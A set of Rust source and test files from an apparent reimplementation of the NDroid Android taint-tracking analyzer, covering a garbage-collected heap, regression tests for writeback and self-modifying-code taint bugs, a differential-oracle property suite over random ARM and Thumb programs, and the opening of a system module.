    /// `dvmDecodeIndirectRef`'s inverse lookup does inside the VM).
    pub fn at_addr(&self, addr: u32) -> Option<ObjectId> {
        self.by_addr.get(&addr).copied()
    }

    /// The string contents and taint of a string object.
    ///
    /// # Errors
    ///
    /// [`DvmError::WrongObjectKind`] if `id` is not a string.
    pub fn string(&self, id: ObjectId) -> Result<(&str, Taint), DvmError> {
        match self.get(id)? {
            HeapObject::String { value, taint } => Ok((value.as_str(), *taint)),
            _ => Err(DvmError::WrongObjectKind { expected: "String" }),
        }
    }

    /// **Moving GC**: slides every live object to a fresh address range,
    /// invalidating all previously handed-out direct addresses. Stable
    /// [`ObjectId`]s (and therefore indirect references) survive.
    pub fn compact(&mut self) {
        self.gc_cycles += 1;
        self.by_addr.clear();
        // Start a new address epoch so every address changes.
        let mut addr = HEAP_BASE + 0x0010_0000 * (self.gc_cycles % 0x100);
        for (idx, slot) in self.objects.iter().enumerate() {
            if let Some(obj) = slot {
                self.direct_addrs[idx] = addr;
                self.by_addr.insert(addr, ObjectId(idx as u32));
                addr += ((obj.size_bytes() as u32) + 7) & !7;
            }
        }
        self.next_addr = addr;
    }

    /// Mark-and-sweep collection from explicit roots; unreachable
    /// objects are freed. Reachability follows reference-array elements,
    /// instance reference fields are opaque u32s, so callers pass every
    /// register/reference root explicitly (conservative roots).
    pub fn collect(&mut self, roots: &[ObjectId]) -> usize {
        let mut marked = vec![false; self.objects.len()];
        let mut work: Vec<ObjectId> = roots.to_vec();
        while let Some(id) = work.pop() {
            let idx = id.0 as usize;
            if idx >= marked.len() || marked[idx] || self.objects[idx].is_none() {
                continue;
            }
            marked[idx] = true;
            if let Some(HeapObject::Array {
                kind: crate::object::ArrayKind::Object,
                data,
                ..
            }) = self.objects[idx].as_deref()
            {
                for slot in data {
                    if *slot != 0 {
                        work.push(ObjectId(slot - 1));
                    }
                }
            }
            if let Some(HeapObject::Exception { message, .. }) = self.objects[idx].as_deref() {
                if *message != 0 {
                    work.push(ObjectId(message - 1));
                }
            }
        }
        let mut freed = 0;
        for (idx, slot) in self.objects.iter_mut().enumerate() {
            if slot.is_some() && !marked[idx] {
                self.by_addr.remove(&self.direct_addrs[idx]);
                *slot = None;
                freed += 1;
            }
        }
        freed
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::object::ArrayKind;

    #[test]
    fn alloc_and_access() {
        let mut h = Heap::new();
        let id = h.alloc_string("hello", Taint::SMS);
        let (s, t) = h.string(id).unwrap();
        assert_eq!(s, "hello");
        assert_eq!(t, Taint::SMS);
        assert_eq!(h.len(), 1);
    }

    #[test]
    fn direct_addresses_are_unique_and_resolvable() {
        let mut h = Heap::new();
        let a = h.alloc_string("a", Taint::CLEAR);
        let b = h.alloc_string("b", Taint::CLEAR);
        let addr_a = h.direct_addr(a).unwrap();
        let addr_b = h.direct_addr(b).unwrap();
        assert_ne!(addr_a, addr_b);
        assert!(addr_a >= HEAP_BASE);
        assert_eq!(h.at_addr(addr_a), Some(a));
        assert_eq!(h.at_addr(addr_b), Some(b));
    }

    #[test]
    fn compact_moves_every_object_but_ids_survive() {
        let mut h = Heap::new();
        let id = h.alloc_string("payload", Taint::IMEI);
        let before = h.direct_addr(id).unwrap();
        h.compact();
        let after = h.direct_addr(id).unwrap();
        assert_ne!(before, after, "moving GC must move the object");
        // Stale address no longer resolves.
        assert_eq!(h.at_addr(before), None);
        assert_eq!(h.at_addr(after), Some(id));
        // Content and taint ride along.
        let (s, t) = h.string(id).unwrap();
        assert_eq!(s, "payload");
        assert_eq!(t, Taint::IMEI);
        assert_eq!(h.gc_cycles, 1);
    }

    #[test]
    fn repeated_compaction_keeps_addresses_fresh() {
        let mut h = Heap::new();
        let id = h.alloc_string("x", Taint::CLEAR);
        let mut seen = std::collections::HashSet::new();
        seen.insert(h.direct_addr(id).unwrap());
        for _ in 0..5 {
            h.compact();
            assert!(
                seen.insert(h.direct_addr(id).unwrap()),
                "each compaction must pick a new address"
            );
        }
    }

    #[test]
    fn collect_frees_unreachable() {
        let mut h = Heap::new();
        let live = h.alloc_string("live", Taint::CLEAR);
        let dead = h.alloc_string("dead", Taint::CLEAR);
        let freed = h.collect(&[live]);
        assert_eq!(freed, 1);
        assert!(h.get(live).is_ok());
        assert!(h.get(dead).is_err());
        assert_eq!(h.len(), 1);
    }

    #[test]
    fn collect_traces_object_arrays() {
        let mut h = Heap::new();
        let inner = h.alloc_string("inner", Taint::CLEAR);
        let arr = h.alloc(HeapObject::Array {
            kind: ArrayKind::Object,
            data: vec![inner.0 + 1],
            taint: Taint::CLEAR,
        });
        let freed = h.collect(&[arr]);
        assert_eq!(freed, 0);
        assert!(h.get(inner).is_ok());
    }

    #[test]
    fn dangling_access_errors() {
        let mut h = Heap::new();
        let id = h.alloc_string("x", Taint::CLEAR);
        h.collect(&[]);
        assert_eq!(h.get(id).unwrap_err(), DvmError::DanglingObject(id.0));
        assert!(h.direct_addr(id).is_err());
    }

    #[test]
    fn non_string_rejected_by_string_accessor() {
        let mut h = Heap::new();
        let arr = h.alloc(HeapObject::Array {
            kind: ArrayKind::Primitive,
            data: vec![],
            taint: Taint::CLEAR,
        });
        assert!(matches!(
            h.string(arr),
            Err(DvmError::WrongObjectKind { .. })
        ));
    }
}
