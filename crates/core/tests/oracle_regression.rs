//! Oracle-equality regression tests pinning the two soundness bugs
//! the differential oracle exposed:
//!
//! 1. **Writeback taint gap** — `propagate()` ignored base-register
//!    writeback, so `LDR Rd, [Rn], Rm` (and `[Rn, Rm]!`) dropped the
//!    offset register's taint from the base even though the executor
//!    left `Rn = Rn ± Rm` (pointer rule violation, under-taint).
//! 2. **Stale handler classification** — `HandlerCache` keyed on bare
//!    `pc` with no invalidation, so self-modifying code that patched a
//!    cached-irrelevant instruction (a branch) into a store kept being
//!    skipped, losing the store's taint update.
//!
//! Each test asserts the concrete taint fact the buggy pipeline got
//! wrong (failing before the fix) *and* full oracle equality.

use ndroid_arm::cond::Cond;
use ndroid_arm::encode::encode;
use ndroid_arm::insn::{DpOp, Instr, MemOffset, MemSize, Op2};
use ndroid_arm::reg::Reg;
use ndroid_core::oracle::{check_oracle, run_optimized, OracleProgram, StopReason};
use ndroid_core::NDroidAnalysis;
use ndroid_dvm::Taint;
use ndroid_emu::layout::{NATIVE_CODE_BASE, NATIVE_HEAP_BASE};
use ndroid_emu::shadow::ShadowState;

const CODE: u32 = NATIVE_CODE_BASE;
const DATA: u32 = NATIVE_HEAP_BASE + 0x0001_0000;
const BX_LR: u32 = 0xE12F_FF1E;

fn program(words: Vec<u32>) -> OracleProgram {
    let mut bytes = Vec::with_capacity(words.len() * 4);
    for w in &words {
        bytes.extend_from_slice(&w.to_le_bytes());
    }
    OracleProgram {
        sections: vec![(CODE, bytes)],
        entry: CODE,
        regs: [0; 16],
        reg_taints: [Taint::CLEAR; 16],
        mem_taints: Vec::new(),
        max_steps: 256,
    }
}

fn mem(load: bool, rd: Reg, rn: Reg, offset: MemOffset, pre: bool, writeback: bool) -> u32 {
    encode(&Instr::Mem {
        cond: Cond::Al,
        load,
        size: MemSize::Word,
        rd,
        rn,
        offset,
        pre,
        up: true,
        writeback,
    })
    .unwrap()
}

fn reg_off(rm: Reg) -> MemOffset {
    MemOffset::Reg {
        rm,
        kind: ndroid_arm::insn::ShiftKind::Lsl,
        amount: 0,
    }
}

/// Bug 1, post-indexed load: `ldr r0, [r1], r2` with tainted `r2`
/// must leave `t(r1)` carrying the offset taint (the executor leaves
/// `r1 = r1 + r2`). Before the fix, `t(r1)` stayed clear.
#[test]
fn post_indexed_load_writeback_taints_base() {
    let mut p = program(vec![mem(true, Reg::R0, Reg::R1, reg_off(Reg::R2), false, false), BX_LR]);
    p.regs[1] = DATA;
    p.regs[2] = 8;
    p.reg_taints[2] = Taint::CONTACTS;

    let mut analysis = NDroidAnalysis::new();
    let mut shadow = ShadowState::new();
    let run = run_optimized(&p, &mut analysis, &mut shadow);
    assert_eq!(run.stop, StopReason::Returned);
    assert!(
        shadow.regs[1].contains(Taint::CONTACTS),
        "writeback must fold the offset register's taint into the base: t(r1) = {:?}",
        shadow.regs[1]
    );
    // And the destination keeps the pointer-rule union.
    assert!(shadow.regs[0].contains(Taint::CONTACTS));

    check_oracle(&p).expect("oracle equality");
}

/// Bug 1, pre-indexed writeback store: `str r0, [r1, r2]!` updates
/// `r1`, so `t(r1) |= t(r2)`; the stored word's taint is `t(r0)`
/// alone.
#[test]
fn pre_indexed_store_writeback_taints_base() {
    let mut p = program(vec![mem(false, Reg::R0, Reg::R1, reg_off(Reg::R2), true, true), BX_LR]);
    p.regs[1] = DATA;
    p.regs[2] = 4;
    p.reg_taints[0] = Taint::SMS;
    p.reg_taints[2] = Taint::LOCATION;

    let mut analysis = NDroidAnalysis::new();
    let mut shadow = ShadowState::new();
    let run = run_optimized(&p, &mut analysis, &mut shadow);
    assert_eq!(run.stop, StopReason::Returned);
    assert!(
        shadow.regs[1].contains(Taint::LOCATION),
        "pre-indexed writeback must taint the base: t(r1) = {:?}",
        shadow.regs[1]
    );
    assert_eq!(shadow.mem.range_taint(DATA + 4, 4), Taint::SMS);

    check_oracle(&p).expect("oracle equality");
}

/// Bug 1 control case: an immediate-offset writeback cannot change
/// `t(Rn)` — guards against over-tainting in the fix.
#[test]
fn immediate_writeback_leaves_base_clear() {
    let mut p = program(vec![mem(true, Reg::R0, Reg::R1, MemOffset::Imm(8), false, false), BX_LR]);
    p.regs[1] = DATA;
    p.reg_taints[0] = Taint::SMS; // clobbered by the load

    let mut analysis = NDroidAnalysis::new();
    let mut shadow = ShadowState::new();
    run_optimized(&p, &mut analysis, &mut shadow);
    assert_eq!(shadow.regs[1], Taint::CLEAR);
    assert_eq!(shadow.regs[0], Taint::CLEAR);

    check_oracle(&p).expect("oracle equality");
}

/// Bug 2: a two-iteration loop whose body patches its own first
/// instruction. Iteration 1 executes a fall-through branch at
/// `CODE+0` (classified irrelevant, cached) and then overwrites that
/// word with `str r5, [r9]`. Iteration 2 executes the store — the
/// executor's icache re-decodes it correctly, but before the fix the
/// handler cache still said "irrelevant" and the tracer skipped it,
/// silently dropping `t(r5)`'s arrival in memory.
#[test]
fn smc_patched_store_is_reclassified_and_traced() {
    let replacement = mem(false, Reg::R5, Reg::R9, MemOffset::Imm(0), true, false);
    let words = vec![
        // top: victim — b .+4 (falls through)
        encode(&Instr::Branch {
            cond: Cond::Al,
            link: false,
            offset: -4,
        })
        .unwrap(),
        // str r7, [r8] — patches the victim word
        mem(false, Reg::R7, Reg::R8, MemOffset::Imm(0), true, false),
        // subs r10, r10, #1
        encode(&Instr::Dp {
            cond: Cond::Al,
            op: DpOp::Sub,
            s: true,
            rd: Reg::R10,
            rn: Reg::R10,
            op2: Op2::Imm { imm8: 1, rot4: 0 },
        })
        .unwrap(),
        // bne top
        encode(&Instr::Branch {
            cond: Cond::Ne,
            link: false,
            offset: -20,
        })
        .unwrap(),
        BX_LR,
    ];
    let mut p = program(words);
    p.regs[5] = 0xDEAD_BEEF;
    p.regs[7] = replacement;
    p.regs[8] = CODE; // victim address
    p.regs[9] = DATA + 0x100;
    p.regs[10] = 2; // loop counter
    p.reg_taints[5] = Taint::SMS;

    let mut analysis = NDroidAnalysis::new();
    let mut shadow = ShadowState::new();
    let run = run_optimized(&p, &mut analysis, &mut shadow);
    assert_eq!(run.stop, StopReason::Returned);
    assert_eq!(
        shadow.mem.range_taint(DATA + 0x100, 4),
        Taint::SMS,
        "the patched-in store must be re-classified and traced"
    );

    check_oracle(&p).expect("oracle equality");
}

/// Same SMC shape in the other direction: a cached-*relevant* mov is
/// patched into a branch; stale classification here would over-trace
/// (harmless for taint but wrong classification counts). Equality
/// must still hold.
#[test]
fn smc_patched_branch_still_agrees() {
    let replacement = encode(&Instr::Branch {
        cond: Cond::Al,
        link: false,
        offset: -4,
    })
    .unwrap();
    let words = vec![
        // top: victim — mov r0, r2 (relevant)
        encode(&Instr::Dp {
            cond: Cond::Al,
            op: DpOp::Mov,
            s: false,
            rd: Reg::R0,
            rn: Reg::R0,
            op2: Op2::RegShiftImm {
                rm: Reg::R2,
                kind: ndroid_arm::insn::ShiftKind::Lsl,
                amount: 0,
            },
        })
        .unwrap(),
        mem(false, Reg::R7, Reg::R8, MemOffset::Imm(0), true, false),
        encode(&Instr::Dp {
            cond: Cond::Al,
            op: DpOp::Sub,
            s: true,
            rd: Reg::R10,
            rn: Reg::R10,
            op2: Op2::Imm { imm8: 1, rot4: 0 },
        })
        .unwrap(),
        encode(&Instr::Branch {
            cond: Cond::Ne,
            link: false,
            offset: -20,
        })
        .unwrap(),
        BX_LR,
    ];
    let mut p = program(words);
    p.regs[7] = replacement;
    p.regs[8] = CODE;
    p.regs[10] = 2;
    p.reg_taints[2] = Taint::CONTACTS;

    check_oracle(&p).expect("oracle equality");
}
