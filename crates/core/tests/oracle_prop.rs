//! Differential-oracle property suite: random ARM/Thumb programs run
//! under both the optimized `NDroidAnalysis` pipeline (decoded-
//! instruction cache + handler cache + paged taint map) and the
//! reference engine (`ref_propagate` + sparse map, no caches), then
//! the final register/VFP/memory taint state is diffed byte-for-byte.
//!
//! Generated programs cover writeback addressing (pre/post, immediate
//! and register offsets), all four LDM/STM modes, conditional
//! execution, VFP, and self-modifying code that flips an
//! instruction's tracer classification mid-run. Failures replay with
//! `TESTKIT_SEED`.
//!
//! Register discipline keeps programs terminating and keeps data
//! accesses away from the code page (a store overwriting its *own*
//! word in the same step is the one case where post-execution
//! re-identification legitimately sees a different instruction — see
//! DESIGN.md):
//!
//! - destinations come from a value pool (`r0 r1 r5 r6 r7 r8 r12`),
//! - memory bases are `r9`/`r11`, mutated only by bounded writeback,
//! - register offsets are `r2 r3 r4`, initialized small, never written,
//! - `r10` is the loop counter; nothing else may touch it.

use ndroid_arm::cond::Cond;
use ndroid_arm::encode::encode;
use ndroid_arm::insn::{AddrMode4, DpOp, Instr, MemOffset, MemSize, Op2, ShiftKind, VfpOp, VfpPrec};
use ndroid_arm::reg::{Reg, RegList};
use ndroid_arm::thumb::enc;
use ndroid_core::oracle::{check_oracle, OracleProgram, StopReason};
use ndroid_dvm::Taint;
use ndroid_emu::layout::{NATIVE_CODE_BASE, NATIVE_HEAP_BASE};
use ndroid_testkit::prelude::*;

/// One randomized instruction descriptor: a selector plus raw operand
/// entropy, mapped deterministically to an encodable [`Instr`].
type Desc = (u8, u8, u8, u8, u32);

const CODE: u32 = NATIVE_CODE_BASE;
const DATA: u32 = NATIVE_HEAP_BASE + 0x0001_0000;

const OPOOL: [Reg; 3] = [Reg::R2, Reg::R3, Reg::R4];
const BPOOL: [Reg; 2] = [Reg::R9, Reg::R11];
const CONDS: [Cond; 10] = [
    Cond::Al,
    Cond::Al,
    Cond::Al,
    Cond::Al,
    Cond::Eq,
    Cond::Ne,
    Cond::Cs,
    Cond::Cc,
    Cond::Mi,
    Cond::Pl,
];
const TAINTS: [Taint; 4] = [Taint::CLEAR, Taint::CONTACTS, Taint::SMS, Taint::LOCATION];

fn dp_op2(pool: &[Reg], w: u32) -> Op2 {
    let pick = |n: u32| pool[(n as usize) % pool.len()];
    match w & 3 {
        0 => Op2::Imm {
            imm8: (w >> 8) as u8,
            rot4: ((w >> 16) & 15) as u8,
        },
        1 => Op2::RegShiftReg {
            rm: pick(w >> 4),
            kind: ShiftKind::from_bits(w >> 6),
            rs: pick(w >> 10),
        },
        _ => Op2::RegShiftImm {
            rm: pick(w >> 4),
            kind: ShiftKind::from_bits(w >> 6),
            amount: ((w >> 8) & 31) as u8,
        },
    }
}

/// Single load/store with every addressing mode the tracer must
/// handle: pre/post, immediate/register offset, writeback, all sizes.
fn mem_instr(pool: &[Reg], cond: Cond, a: u8, b: u8, c: u8, w: u32) -> Instr {
    let load = a & 1 != 0;
    let size = if load {
        [
            MemSize::Word,
            MemSize::Byte,
            MemSize::Half,
            MemSize::SignedByte,
            MemSize::SignedHalf,
        ][(a >> 1) as usize % 5]
    } else {
        [MemSize::Word, MemSize::Byte, MemSize::Half][(a >> 1) as usize % 3]
    };
    let half_form = matches!(
        size,
        MemSize::Half | MemSize::SignedByte | MemSize::SignedHalf
    );
    let (pre, writeback) = match c % 3 {
        0 => (true, false),
        1 => (true, true),
        _ => (false, false), // post-indexed: writeback implied
    };
    let offset = if w & 4 != 0 {
        MemOffset::Imm((w >> 4) as u16 & 0xFF)
    } else {
        MemOffset::Reg {
            rm: OPOOL[(w >> 4) as usize % 3],
            kind: ShiftKind::Lsl,
            // Keep address drift bounded; halfword forms cannot shift.
            amount: if half_form { 0 } else { ((w >> 8) & 3) as u8 },
        }
    };
    Instr::Mem {
        cond,
        load,
        size,
        rd: pool[b as usize % pool.len()],
        rn: BPOOL[(w >> 16) as usize % 2],
        offset,
        pre,
        up: w & 8 != 0,
        writeback,
    }
}

/// Maps one descriptor to an instruction, with destinations drawn
/// from `pool`.
fn build_instr(pool: &[Reg], d: Desc) -> Instr {
    let (sel, a, b, c, w) = d;
    let pick = |n: u8| pool[n as usize % pool.len()];
    let cond = CONDS[(w >> 28) as usize % CONDS.len()];
    match sel % 8 {
        0 => {
            let op = [
                DpOp::Add,
                DpOp::Sub,
                DpOp::Rsb,
                DpOp::And,
                DpOp::Orr,
                DpOp::Eor,
                DpOp::Bic,
                DpOp::Adc,
            ][a as usize % 8];
            Instr::Dp {
                cond,
                op,
                s: w & 4 != 0,
                rd: pick(b),
                rn: pick(c),
                op2: dp_op2(pool, w),
            }
        }
        1 => Instr::Dp {
            cond,
            op: if a & 1 == 0 { DpOp::Mov } else { DpOp::Mvn },
            s: false,
            rd: pick(b),
            rn: Reg::R0,
            op2: dp_op2(pool, w),
        },
        2 => Instr::Dp {
            // Flag source for the conditional instructions around it.
            cond: Cond::Al,
            op: [DpOp::Cmp, DpOp::Cmn, DpOp::Tst, DpOp::Teq][a as usize % 4],
            s: true,
            rd: Reg::R0,
            rn: pick(b),
            op2: dp_op2(pool, w),
        },
        3 => Instr::Mul {
            cond,
            s: false,
            rd: pick(a),
            rm: pick(b),
            rs: pick(c),
            acc: if w & 1 != 0 {
                Some(pick((w >> 1) as u8))
            } else {
                None
            },
        },
        4 | 5 => mem_instr(pool, cond, a, b, c, w),
        6 => {
            let mode = [AddrMode4::Ia, AddrMode4::Ib, AddrMode4::Da, AddrMode4::Db]
                [c as usize % 4];
            let mut bits = 0u16;
            for (i, r) in pool.iter().enumerate() {
                if (w >> (8 + i)) & 1 != 0 {
                    bits |= 1 << r.index();
                }
            }
            if bits == 0 {
                bits = 1 << pool[0].index();
            }
            Instr::MemMulti {
                cond,
                load: a & 1 != 0,
                rn: BPOOL[b as usize % 2],
                mode,
                writeback: w & 1 != 0,
                regs: RegList(bits),
            }
        }
        _ => {
            let prec = if w & 1 != 0 { VfpPrec::F64 } else { VfpPrec::F32 };
            if a & 1 != 0 {
                Instr::VfpMem {
                    cond,
                    load: a & 2 != 0,
                    prec,
                    fd: b % 8,
                    rn: BPOOL[c as usize % 2],
                    offset: (w >> 4) as u16 & 0x3C,
                    up: w & 2 != 0,
                }
            } else {
                Instr::Vfp {
                    cond,
                    op: [
                        VfpOp::Add,
                        VfpOp::Sub,
                        VfpOp::Mul,
                        VfpOp::Div,
                        VfpOp::Mov,
                        VfpOp::Cmp,
                    ][b as usize % 6],
                    prec,
                    fd: (a >> 1) & 7,
                    fn_: c & 7,
                    fm: (w >> 4) as u8 & 7,
                }
            }
        }
    }
}

/// Initial registers/taints derived from the seed words.
fn seed_env(p: &mut OracleProgram, values: u32, tmask: u32, mem_seed: u32) {
    for (i, r) in [0usize, 1, 5, 6, 7, 8, 12].into_iter().enumerate() {
        p.regs[r] = values.rotate_left(5 * i as u32) ^ (r as u32).wrapping_mul(0x9E37_79B9);
    }
    for (i, r) in [2usize, 3, 4].into_iter().enumerate() {
        p.regs[r] = (values >> (10 * i)) & 0x3FF; // small: bounded drift
    }
    p.regs[9] = DATA + ((values >> 3) & 0xFFC);
    p.regs[11] = DATA + 0x8000 + ((values >> 13) & 0xFFC);
    p.regs[10] = 2; // loop counter
    p.regs[13] = DATA + 0xF000;
    for i in 0..16 {
        p.reg_taints[i] = TAINTS[((tmask >> (2 * i)) & 3) as usize];
    }
    for k in 0..3u32 {
        let off = (mem_seed >> (10 * k)) & 0x3FF;
        let t = TAINTS[1 + ((mem_seed >> (30 - k)) % 3) as usize];
        p.mem_taints.push((DATA + 0x4000 + off, 8, t));
    }
}

fn words_to_bytes(words: &[u32]) -> Vec<u8> {
    let mut out = Vec::with_capacity(words.len() * 4);
    for w in words {
        out.extend_from_slice(&w.to_le_bytes());
    }
    out
}

const BX_LR: u32 = 0xE12F_FF1E;

/// Wraps `body` in a two-iteration counted loop (`r10`):
/// `top: body…; subs r10,r10,#1; bne top; bx lr`.
fn arm_loop_program(body: &[Instr], seeds: (u32, u32, u32)) -> OracleProgram {
    let mut words: Vec<u32> = body
        .iter()
        .map(|i| encode(i).expect("generated instruction must encode"))
        .collect();
    words.push(
        encode(&Instr::Dp {
            cond: Cond::Al,
            op: DpOp::Sub,
            s: true,
            rd: Reg::R10,
            rn: Reg::R10,
            op2: Op2::Imm { imm8: 1, rot4: 0 },
        })
        .unwrap(),
    );
    let bne_index = words.len() as i32;
    words.push(
        encode(&Instr::Branch {
            cond: Cond::Ne,
            link: false,
            offset: -(bne_index * 4 + 8),
        })
        .unwrap(),
    );
    words.push(BX_LR);
    let mut p = OracleProgram {
        sections: vec![(CODE, words_to_bytes(&words))],
        entry: CODE,
        regs: [0; 16],
        reg_taints: [Taint::CLEAR; 16],
        mem_taints: Vec::new(),
        max_steps: 4096,
    };
    seed_env(&mut p, seeds.0, seeds.1, seeds.2);
    p
}

fn assert_agrees(p: &OracleProgram) {
    match check_oracle(p) {
        Ok(v) => {
            prop_assert_eq!(v.run.stop, StopReason::Returned, "program did not return");
        }
        Err(diff) => panic!("oracle divergence:\n{diff}"),
    }
}

const VPOOL: [Reg; 7] = [
    Reg::R0,
    Reg::R1,
    Reg::R5,
    Reg::R6,
    Reg::R7,
    Reg::R8,
    Reg::R12,
];

proptest! {
    /// Mixed ARM programs: data-processing (all shifter forms),
    /// multiply, every load/store addressing mode, LDM/STM in all
    /// four modes, VFP, conditional execution — run twice through a
    /// counted loop so flags differ between iterations.
    #[test]
    fn random_arm_programs_agree(
        descs in collection::vec(
            (any::<u8>(), any::<u8>(), any::<u8>(), any::<u8>(), any::<u32>()),
            0..20,
        ),
        seeds in (any::<u32>(), any::<u32>(), any::<u32>()),
    ) {
        let body: Vec<Instr> = descs.iter().map(|d| build_instr(&VPOOL, *d)).collect();
        assert_agrees(&arm_loop_program(&body, seeds));
    }

    /// Writeback-dense programs: every descriptor becomes a single
    /// load/store, so pre/post-indexed register-offset writeback (the
    /// satellite-1 taint gap) is hit constantly.
    #[test]
    fn writeback_dense_programs_agree(
        descs in collection::vec(
            (any::<u8>(), any::<u8>(), any::<u8>(), any::<u32>()),
            1..16,
        ),
        seeds in (any::<u32>(), any::<u32>(), any::<u32>()),
    ) {
        let body: Vec<Instr> = descs
            .iter()
            .map(|&(a, b, c, w)| {
                let cond = CONDS[(w >> 28) as usize % CONDS.len()];
                mem_instr(&VPOOL, cond, a, b, c, w)
            })
            .collect();
        assert_agrees(&arm_loop_program(&body, seeds));
    }

    /// Self-modifying code: a harmless branch in the loop body is
    /// patched (by a store later in the same iteration) into a
    /// random store, so on the second iteration the handler cache's
    /// cached "irrelevant" classification is stale (the satellite-2
    /// bug). `r7` holds the replacement word, `r8` the victim address;
    /// the body pool excludes both.
    #[test]
    fn smc_reclassification_agrees(
        descs in collection::vec(
            (any::<u8>(), any::<u8>(), any::<u8>(), any::<u8>(), any::<u32>()),
            0..8,
        ),
        vix in any::<u8>(),
        repl in (any::<u8>(), any::<u8>(), any::<u32>()),
        seeds in (any::<u32>(), any::<u32>(), any::<u32>()),
    ) {
        let pool = [Reg::R0, Reg::R1, Reg::R5, Reg::R6, Reg::R12];
        let mut body: Vec<Instr> = descs.iter().map(|d| build_instr(&pool, *d)).collect();
        // Victim starts as a fall-through branch (classified
        // irrelevant, so the handler cache records a skip for its pc).
        let victim = Instr::Branch { cond: Cond::Al, link: false, offset: -4 };
        let victim_index = vix as usize % (body.len() + 1);
        body.insert(victim_index, victim);
        // Patch instruction, after the victim: str r7, [r8].
        body.push(Instr::Mem {
            cond: Cond::Al,
            load: false,
            size: MemSize::Word,
            rd: Reg::R7,
            rn: Reg::R8,
            offset: MemOffset::Imm(0),
            pre: true,
            up: true,
            writeback: false,
        });
        // Replacement: a store of a pool register to a data base —
        // relevant to the tracer, unlike the branch it replaces.
        let replacement = Instr::Mem {
            cond: Cond::Al,
            load: false,
            size: MemSize::Word,
            rd: pool[repl.0 as usize % pool.len()],
            rn: BPOOL[repl.1 as usize % 2],
            offset: MemOffset::Imm(repl.2 as u16 & 0xFC),
            pre: true,
            up: true,
            writeback: false,
        };
        let mut p = arm_loop_program(&body, seeds);
        p.regs[7] = encode(&replacement).unwrap();
        p.regs[8] = CODE + 4 * victim_index as u32;
        assert_agrees(&p);
    }

    /// Thumb programs: straight-line 16-bit code (moves, ALU, loads/
    /// stores with immediate and register offsets, push/pop,
    /// conditional forward skips), ending in `bx lr`.
    #[test]
    fn random_thumb_programs_agree(
        descs in collection::vec(
            (any::<u8>(), any::<u8>(), any::<u8>(), any::<u32>()),
            0..24,
        ),
        seeds in (any::<u32>(), any::<u32>(), any::<u32>()),
    ) {
        let tv = |n: u8| [Reg::R0, Reg::R1][n as usize % 2];
        let ts = |n: u8| [Reg::R0, Reg::R1, Reg::R2, Reg::R3][n as usize % 4];
        let skip_conds = [Cond::Eq, Cond::Ne, Cond::Cs, Cond::Cc, Cond::Mi, Cond::Pl];
        let mut halves: Vec<u16> = Vec::new();
        for &(sel, a, b, w) in &descs {
            match sel % 10 {
                0 => halves.push(enc::mov_imm(tv(a), w as u8)),
                1 => halves.push(if w & 1 != 0 {
                    enc::add_imm8(tv(a), w as u8)
                } else {
                    enc::sub_imm8(tv(a), w as u8)
                }),
                2 => halves.push(if w & 1 != 0 {
                    enc::add_reg(tv(a), ts(b), ts((w >> 8) as u8))
                } else {
                    enc::sub_reg(tv(a), ts(b), ts((w >> 8) as u8))
                }),
                3 => halves.push(enc::lsl_imm(tv(a), ts(b), (w & 7) as u8)),
                4 => halves.push(enc::alu((w >> 4) as u16 & 15, tv(a), ts(b))),
                5 => halves.push(if w & 1 != 0 {
                    enc::ldr_imm(tv(a), Reg::R4, (w >> 1) as u8 & 31)
                } else {
                    enc::ldrb_imm(tv(a), Reg::R4, (w >> 1) as u8 & 31)
                }),
                6 => halves.push(if w & 1 != 0 {
                    enc::str_imm(ts(b), Reg::R4, (w >> 1) as u8 & 31)
                } else {
                    enc::strb_imm(ts(b), Reg::R4, (w >> 1) as u8 & 31)
                }),
                7 => halves.push(if w & 1 != 0 {
                    enc::ldr_reg(tv(a), Reg::R4, [Reg::R2, Reg::R3][b as usize % 2])
                } else {
                    enc::str_reg(ts(b), Reg::R4, [Reg::R2, Reg::R3][b as usize % 2])
                }),
                8 => {
                    // Conditional forward skip over the next instruction.
                    halves.push(enc::cmp_imm(tv(a), w as u8));
                    halves.push(enc::b_cond(skip_conds[b as usize % 6], 0));
                }
                _ => {
                    let push_bits = (w as u8 & 0xF) | 1;
                    let pop_bits = ((w >> 4) as u8 & 3) | 1; // only r0/r1 back
                    halves.push(enc::push(push_bits, false));
                    halves.push(enc::pop(pop_bits, false));
                }
            }
        }
        // Tail: a nop buffer (so a trailing skip cannot jump past the
        // return) and bx lr.
        halves.push(enc::mov_hi(Reg::R8, Reg::R8));
        halves.push(enc::bx(Reg::LR));
        let mut bytes = Vec::with_capacity(halves.len() * 2);
        for h in &halves {
            bytes.extend_from_slice(&h.to_le_bytes());
        }
        let mut p = OracleProgram {
            sections: vec![(CODE, bytes)],
            entry: CODE | 1,
            regs: [0; 16],
            reg_taints: [Taint::CLEAR; 16],
            mem_taints: Vec::new(),
            max_steps: 4096,
        };
        seed_env(&mut p, seeds.0, seeds.1, seeds.2);
        p.regs[4] = DATA + ((seeds.0 >> 7) & 0xFFC); // thumb base register
        p.regs[2] &= 0x7C; // thumb reg offsets: word-ish, small
        p.regs[3] &= 0x7C;
        assert_agrees(&p);
    }
}
