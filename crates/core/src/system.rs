//! [`NDroidSystem`]: a complete analyzed Android world — the
//! counterpart of "NDroid is implemented in QEMU … Executing TaintDroid
//! in the modified QEMU, NDroid employs it to run apps and track
//! information flow in the Java context. NDroid handles the
//! information flows through JNI." (§VI)

use crate::analysis::{AnalysisStats, NDroidAnalysis};
use crate::baseline::{DroidScopeLikeAnalysis, TaintDroidAnalysis};
use crate::config::{EngineKind, SystemConfig};
use crate::oracle::ReferenceAnalysis;
use crate::report::RunReport;
use ndroid_arm::asm::CodeBlock;
use ndroid_arm::{Cpu, Memory};
use ndroid_dvm::{Dvm, DvmError, LeakEvent, Program, Taint};
use ndroid_emu::kernel::Kernel;
use ndroid_emu::layout;
use ndroid_emu::os_view::{self, ProcessView, TaskWriter, Vma};
use ndroid_emu::runtime::{Analysis, GuestRunner, HostTable, VanillaAnalysis};
use ndroid_emu::shadow::ShadowState;
use ndroid_emu::trace::TraceLog;
use ndroid_jni::install_jni;
use ndroid_libc::install_all;
use ndroid_provenance::{FlowGraph, Handle, ProvEvent};

/// Which analysis configuration runs the app.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Mode {
    /// Unmodified emulator + unmodified DVM (the CF-Bench baseline).
    Vanilla,
    /// TaintDroid only: Java-context tracking, the conservative JNI
    /// return policy, and nothing in the native context.
    TaintDroid,
    /// Full NDroid: TaintDroid plus the JNI hook engines and the
    /// native instruction tracer.
    NDroid,
